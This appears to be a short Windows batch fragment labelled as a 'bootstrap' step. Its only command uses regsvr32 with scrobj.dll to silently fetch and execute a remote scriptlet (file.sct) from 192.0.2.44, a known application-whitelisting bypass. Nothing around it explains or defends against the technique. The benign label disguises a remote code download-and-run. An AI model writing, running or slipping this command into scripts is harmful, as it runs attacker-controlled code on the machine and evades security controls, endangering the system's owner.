REM bootstrap 5726 v3
regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
